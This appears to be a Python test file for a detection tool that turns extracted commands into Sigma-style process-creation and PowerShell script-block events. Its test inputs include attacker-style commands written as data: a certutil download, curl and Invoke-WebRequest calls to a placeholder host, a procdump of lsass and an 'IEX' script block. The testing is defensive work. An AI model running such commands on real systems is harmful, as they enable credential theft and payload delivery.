"""Events carry only what a payload shows: commands become process creations, PowerShell text a script block."""

from __future__ import annotations

from dataclasses import dataclass

from inspector.sigma import EventKind, process_event, script_block_event
from inspector.sigma.conditions import PARTIAL


@dataclass(frozen=True)
class Command:
    """The fields of an extracted command (`inspector.commands.ExtractedCommand`) events read."""

    command_line: str
    shell: str
    image: str
    parent_image: str
    offset: int = 0
    length: int = 0


CMD = "C:\\Windows\\System32\\cmd.exe"


def test_a_windows_command_is_a_process_creation_with_what_is_known() -> None:
    event = process_event(Command("certutil -urlcache -f http://x a.exe", "cmd",
                                  "C:\\Windows\\System32\\certutil.exe", CMD, 10, 36))
    assert event is not None and event.kind is EventKind.WINDOWS_PROCESS
    assert event.fields == {"image": "C:\\Windows\\System32\\certutil.exe",
                            "commandline": "certutil -urlcache -f http://x a.exe",
                            "originalfilename": "certutil.exe", "parentimage": CMD}
    assert (event.offset, event.length) == (10, 36)


def test_the_parent_of_a_command_is_the_shell_it_runs_in() -> None:
    # A script's commands are started by its shell; what started the shell stays unknown.
    event = process_event(Command("reg add HKCU\\x /f", "powershell", "C:\\Windows\\System32\\reg.exe",
                                  "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"))
    assert event is not None and event.fields["parentimage"].endswith("\\powershell.exe")
    assert "parentcommandline" not in event.fields


def test_the_original_file_name_is_known_only_for_the_systems_own_binaries() -> None:
    event = process_event(Command("C:\\Users\\Public\\svc.exe", "cmd", "C:\\Users\\Public\\svc.exe", CMD))
    assert event is not None and "originalfilename" not in event.fields


def test_a_cmdlet_starts_no_process() -> None:
    assert process_event(Command("Invoke-WebRequest http://x", "powershell", "", "powershell.exe")) is None


def test_a_shell_command_is_a_linux_process_creation() -> None:
    event = process_event(Command("curl -s http://x", "shell", "/usr/bin/curl", "/bin/bash"))
    assert event is not None and event.kind is EventKind.LINUX_PROCESS
    assert event.fields == {"image": "/usr/bin/curl", "commandline": "curl -s http://x", "parentimage": "/bin/bash"}


def test_a_bare_name_the_system_does_not_ship_keeps_its_name_but_not_a_folder() -> None:
    event = process_event(Command("procdump -ma lsass", "cmd", "C:\\Windows\\System32\\procdump.exe", CMD))
    assert event is not None and event.fields["image"] == PARTIAL + "\\procdump.exe"
    assert "originalfilename" not in event.fields


def test_in_powershell_a_bare_name_windows_does_not_ship_starts_no_process() -> None:
    # Pester's `It`, `Describe`, `Should` are functions as often as any unknown name is a program.
    assert process_event(Command("Should -Contain .CPL", "powershell", "C:\\Windows\\System32\\should.exe",
                                 "powershell.exe")) is None
    assert process_event(Command("cmd /c ver", "powershell", "C:\\Windows\\System32\\cmd.exe",
                                 "powershell.exe")) is not None


def test_a_script_or_document_starts_no_process_image_of_its_own() -> None:
    assert process_event(Command("c:\\x\\run.ps1 -a", "cmd", "c:\\x\\run.ps1", CMD)) is None
    assert process_event(Command("notes.txt", "cmd", "c:\\x\\notes.txt", CMD)) is None


def test_a_powershell_layer_is_a_script_block() -> None:
    event = script_block_event("IEX $x")
    assert event.kind is EventKind.POWERSHELL_SCRIPT and event.fields == {"scriptblocktext": "IEX $x"}


def test_well_known_folder_variables_are_resolved_and_other_variables_leave_the_folder_unknown() -> None:
    def image(written: str) -> str:
        event = process_event(Command(written, "cmd", written, CMD))
        assert event is not None
        return event.fields["image"]

    assert image("%windir%\\System32\\certutil.exe") == "C:\\Windows\\System32\\certutil.exe"
    assert image("$env:TEMP\\a.exe").endswith("\\AppData\\Local\\Temp\\a.exe")
    assert image("$publishPath\\pwsh.exe") == PARTIAL + "\\pwsh.exe"
    assert image("c:/tools/x.exe") == "c:\\tools\\x.exe"
